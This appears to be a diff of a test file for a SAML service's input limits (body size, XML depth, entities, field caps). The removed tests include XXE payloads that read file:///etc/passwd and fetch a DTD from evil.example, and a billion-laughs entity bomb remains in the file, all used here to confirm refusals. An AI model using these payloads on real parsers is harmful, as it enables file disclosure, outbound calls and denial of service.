@@ -1,6 +1,6 @@
 /**
- * Every size, depth, entity and time limit, refused with its status and code at each API style, and
- * accepted right at the limit. Where the wire stays generic (the ACS), the logged reason is checked.
+ * The management APIs' size, depth, entity, time and field limits, refused with each style's status
+ * and code and accepted right at the limit; a refusal changes nothing in D1.
  *
  * Already covered elsewhere, and not repeated here:
  * - Clerk create over 1 MiB: test/clerk/create-errors.test.ts, "returns 413 for a body over the size cap".
@@ -13,29 +13,26 @@
  * - SuperTokens redirectURIs over 50 and clientId over 255: test/supertokens/bad-input.test.ts, "answers 400 for more than 50 redirect URIs ...".
  * - Metadata URL body over the cap, and the fetcher timing out: test/clerk/metadata-url.test.ts,
  *   "returns 400 saml_failed_to_fetch_idp_metadata for a body over the size cap" and "gives up on a host that does not answer within the timeout".
- * - Engine-level byte and depth boundaries: test/saml/metadata.security.test.ts and test/saml/response.security.test.ts ("too-large").
+ * - Engine-level byte and depth boundaries: test/saml/metadata.security.test.ts.
  * - Clerk list limit=0/501, offset=-1: test/clerk/list.test.ts, "returns 400 invalid_query_parameter_value for out-of-range ...".
  */
-import { env, SELF } from 'cloudflare:test'
+import { env } from 'cloudflare:test'
 import { describe, expect, it } from 'vitest'
 import { MAX_BODY_BYTES } from '../../src/http/middleware/body'
-import { MAX_METADATA_BYTES, MAX_SAML_RESPONSE_BYTES, MAX_XML_DEPTH } from '../../src/saml/limits'
+import { MAX_METADATA_BYTES, MAX_XML_DEPTH } from '../../src/saml/limits'
 import { makeMetadataFetcher } from '../../src/services/metadata-fetcher'
 import { updateConnection } from '../../src/services/saml-connections'
 import { buildDeps } from '../../src/wiring/deps'
 import { clerkClient, connectionInput, newInstance } from '../helpers/clerk'
+import { chunkedBody, send, type Answer } from '../helpers/http'
 import { idpCertPem, idpMetadataXml } from '../helpers/keys'
-import { activeConnection, APP_CALLBACK } from '../helpers/sso'
-import { clientBody, newApp, newTenantId, stClient } from '../supertokens/helpers'
-import { assertionIdsOf, snapshotInstance } from '../helpers/store'
 import { METADATA_ORIGIN } from '../helpers/outbound'
-import { captureLogs, expectBrowserError, expectClerkError } from './wire'
+import { snapshotInstance } from '../helpers/store'
 import { toBase64 } from '../helpers/test-idp'
-import { type Answer, ORIGIN, send } from '../helpers/http'
+import { captureLogs, expectClerkError } from '../helpers/wire'
+import { clientBody, newApp, newTenantId, stClient } from '../supertokens/helpers'
 
-const logs = captureLogs()
-const MAX_BASE64_CHARS = Math.ceil(MAX_SAML_RESPONSE_BYTES / 3) * 4
-const ACS_BODY_LIMIT = 2 * MAX_SAML_RESPONSE_BYTES
+captureLogs()
 const utf8Length = (s: string) => new TextEncoder().encode(s).byteLength
 const codes = (a: Answer) => a.body.errors.map((e: { code: string; meta?: { param_name?: string } }) => [e.code, e.meta?.param_name])
 
@@ -63,28 +60,6 @@ function metadataOfDepth(depth: number): string {
   const open = '<md:EntitiesDescriptor xmlns:md="urn:oasis:names:tc:SAML:2.0:metadata">'.repeat(wrappers)
   return `<?xml version="1.0"?>${open}${inner}${'</md:EntitiesDescriptor>'.repeat(wrappers)}`
 }
-
-/** A stream of `chunks` chunks of 64 KiB, sent without Content-Length. */
-function chunkedBody(prefix: string, chunks: number): ReadableStream<Uint8Array> {
-  const chunk = new TextEncoder().encode('x'.repeat(64 * 1024))
-  let sent = -1
-  return new ReadableStream<Uint8Array>({
-    pull(controller) {
-      sent++
-      if (sent === 0) controller.enqueue(new TextEncoder().encode(prefix))
-      else if (sent <= chunks) controller.enqueue(chunk)
-      else controller.close()
-    },
-  })
-}
-
-/** The reason the engine logged for the last refused browser request. */
-const loggedReason = () =>
-  logs
-    .take()
-    .filter((l) => l.event === 'refusal')
-    .map((l) => (l.reason ? JSON.parse(String(l.reason)).reason : l.code))
-    .pop()
 
 describe('request body size', () => {
   it('Clerk: reads a body of exactly 1 MiB, and answers 413 request_body_too_large one byte over, on create and update', async () => {
@@ -122,54 +97,6 @@ describe('request body size', () => {
     }
     expect(await snapshotInstance(instanceId)).toEqual(after)
     expect(after.connections).toHaveLength(before.connections.length + 1)
-  })
-
-  it(`ACS: reads a form body of exactly ${ACS_BODY_LIMIT} bytes, and answers 413 one byte over, with or without Content-Length`, async () => {
-    const { connection } = await activeConnection({ allow_idp_initiated: true })
-    const post = (body: string | ReadableStream<Uint8Array>, accept?: string) =>
-      send(`/v1/saml/acs/${connection.id}`, { method: 'POST', headers: { 'content-type': 'application/x-www-form-urlencoded', ...(accept ? { accept } : {}) }, body: body as string })
-    const prefix = 'SAMLResponse='
-    logs.take()
-    const atLimit = await post(prefix + 'A'.repeat(ACS_BODY_LIMIT - prefix.length))
-    expectBrowserError(atLimit, 'html')
-    expect([atLimit.status, loggedReason()]).toEqual([400, 'too_large']) // read, then refused by the SAMLResponse cap
-    const over = await post(prefix + 'A'.repeat(ACS_BODY_LIMIT - prefix.length + 1))
-    expectBrowserError(over, 'html')
-    expect([over.status, loggedReason()]).toEqual([413, 'body_too_large'])
-    const overJson = await post(prefix + 'A'.repeat(ACS_BODY_LIMIT), 'application/json')
-    expectBrowserError(overJson, 'json')
-    expect([overJson.status, overJson.body.error]).toEqual([413, 'invalid_request'])
-    const chunked = await SELF.fetch(`${ORIGIN}/v1/saml/acs/${connection.id}`, { method: 'POST', headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: chunkedBody(prefix, 9) })
-    expect(chunked.status).toBe(413)
-    await chunked.text()
-  })
-
-  it('token: answers 413 invalid_request as JSON for a body over the cap, and 400 for a code over 4096 characters', async () => {
-    const over = await send('/v1/saml/token', { method: 'POST', headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: `code=${'c'.repeat(ACS_BODY_LIMIT)}` })
-    expectBrowserError(over, 'json')
-    expect([over.status, over.body.error]).toEqual([413, 'invalid_request'])
-    const longCode = await send('/v1/saml/token', { method: 'POST', headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: `code=${'c'.repeat(4097)}` })
-    expectBrowserError(longCode, 'json')
-    expect([longCode.status, longCode.body.error]).toEqual([400, 'invalid_request'])
-  })
-})
-
-describe('SAMLResponse size', () => {
-  it(`reads a SAMLResponse of exactly ${MAX_SAML_RESPONSE_BYTES} bytes, and refuses one byte or base64 character more as too_large`, async () => {
-    const { connection } = await activeConnection({ allow_idp_initiated: true })
-    const post = (value: string) => send(`/v1/saml/acs/${connection.id}`, { method: 'POST', headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: new URLSearchParams({ SAMLResponse: value }).toString() })
-    logs.take()
-    const atLimit = await post(toBase64('x'.repeat(MAX_SAML_RESPONSE_BYTES)))
-    expect([atLimit.status, atLimit.text.includes('invalid_saml_response'), loggedReason()]).toEqual([400, true, 'not_xml']) // decoded and read: just not XML
-    const overByOne = toBase64('x'.repeat(MAX_SAML_RESPONSE_BYTES + 1))
-    expect(overByOne.length).toBe(MAX_BASE64_CHARS) // as many characters as the cap, one byte too many
-    // Line-wrapped base64 is measured without its line breaks.
-    const wrapped = 'A'.repeat(MAX_BASE64_CHARS + 4).replace(/(.{76})/g, '$1\r\n')
-    for (const value of [overByOne, 'A'.repeat(MAX_BASE64_CHARS + 1), wrapped]) {
-      const a = await post(value)
-      expectBrowserError(a, 'html')
-      expect([a.status, a.text.includes('invalid_saml_response'), loggedReason()]).toEqual([400, true, 'too_large'])
-    }
   })
 })
 
@@ -209,38 +136,10 @@ describe(`XML depth (${MAX_XML_DEPTH} nested elements)`, () => {
     const stDeep = await st.put(clientBody({ metadataXML: toBase64(metadataOfDepth(MAX_XML_DEPTH + 1)) }))
     expect([stDeep.status, stDeep.text]).toEqual([400, 'metadataXML does not have a valid SAML metadata\n'])
   })
-
-  it('refuses a SAMLResponse nested past the limit as too_deep, and reserves nothing', async () => {
-    const { connection } = await activeConnection({ allow_idp_initiated: true })
-    // The root counts as one level; 30,000 levels still fit under the size cap.
-    for (const depth of [MAX_XML_DEPTH, 30_000]) {
-      const xml = `<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_r" Version="2.0">${'<a>'.repeat(depth)}${'</a>'.repeat(depth)}</samlp:Response>`
-      const value = toBase64(xml)
-      logs.take()
-      const a = await send(`/v1/saml/acs/${connection.id}`, { method: 'POST', headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: new URLSearchParams({ SAMLResponse: value }).toString() })
-      expectBrowserError(a, 'html')
-      // The parser's depth check is what refused it, not a later step that walked the whole tree.
-      expect([a.status, loggedReason()], `depth ${depth}`).toEqual([400, 'too_deep'])
-    }
-    expect(await assertionIdsOf(connection.id)).toEqual([])
-  })
 })
 
 describe('DTDs and entities', () => {
   const lolz = `<!DOCTYPE lolz [<!ENTITY lol "lol">${Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i || ''};`.repeat(10)}">`).join('')}]>`
-
-  it('refuses a SAMLResponse with entity expansion, an external entity or a parameter entity as dtd_forbidden, and reserves nothing', async () => {
-    const { connection } = await activeConnection({ allow_idp_initiated: true })
-    for (const doctype of [lolz, '<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>', '<!DOCTYPE r [<!ENTITY % p SYSTEM "https://evil.example/p.dtd"> %p;]>']) {
-      const xml = `<?xml version="1.0"?>${doctype}<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_r" Version="2.0">&lol9;&xxe;</samlp:Response>`
-      logs.take()
-      const a = await send(`/v1/saml/acs/${connection.id}`, { method: 'POST', headers: { 'content-type': 'application/x-www-form-urlencoded', accept: 'application/json' }, body: new URLSearchParams({ SAMLResponse: toBase64(xml) }).toString() })
-      expectBrowserError(a, 'json')
-      // Refused for the DOCTYPE itself, before any entity is expanded or fetched.
-      expect([a.status, a.body.error, loggedReason()]).toEqual([400, 'invalid_saml_response', 'dtd_forbidden'])
-    }
-    expect(await assertionIdsOf(connection.id)).toEqual([])
-  })
 
   it('refuses entity expansion in metadata on update too, and changes nothing', async () => {
     const { instanceId, secretKey } = await newInstance()
@@ -306,24 +205,6 @@ describe('field and query caps', () => {
     for (const [q, param] of [[`?${orgs(101)}`, 'organization_id'], [`?query=${'q'.repeat(257)}`, 'query']]) {
       const res = await api.list(q)
       expect([res.status, res.body.errors[0].code, res.body.errors[0].meta.param_name]).toEqual([400, 'invalid_query_parameter_value', param])
-    }
-  })
-
-  it('login: refuses a redirect_uri over 4096 characters with 400 invalid_request', async () => {
-    const { connection } = await activeConnection()
-    const res = await send(`/v1/saml/login?${new URLSearchParams({ connection_id: connection.id, redirect_uri: `${APP_CALLBACK}?${'x'.repeat(4097)}` })}`)
-    expectBrowserError(res, 'html')
-    expect(res.status).toBe(400)
-    expect(res.text).toContain('invalid_request')
-  })
-
-  it('ACS: a RelayState far over the KV key limit (512 bytes) is bounded, not a failure', async () => {
-    const { connection } = await activeConnection({ allow_idp_initiated: true })
-    // Sized to stay under the ACS body cap once form-encoded (an emoji is 12 bytes there).
-    for (const relay of ['r'.repeat(100_000), '😀'.repeat(20_000), '\u0800'.repeat(20_000)]) {
-      const res = await send(`/v1/saml/acs/${connection.id}`, { method: 'POST', headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: new URLSearchParams({ SAMLResponse: 'PHg+', RelayState: relay }).toString() })
-      expectBrowserError(res, 'html')
-      expect(res.status).toBe(400)
     }
   })
 })
